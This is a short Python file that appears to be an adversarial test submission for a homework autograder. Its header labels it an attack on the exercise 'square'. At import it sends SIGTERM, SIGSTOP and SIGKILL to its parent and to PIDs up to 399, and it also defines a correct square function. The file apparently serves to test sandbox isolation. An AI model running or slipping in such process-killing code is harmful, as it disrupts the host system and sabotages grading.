# attack: sends SIGKILL to every process it may signal, but for itself
# assignment: hw
# exercise: square
# status: ok
# score: 2
import os
import signal

for pid in (-1, 0, os.getppid(), 1, 2, 3, *range(4, 400)):
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        try:
            if pid > 0 and pid != os.getpid():
                os.kill(pid, number)
        except OSError:
            pass


def square(x):
    return x * x
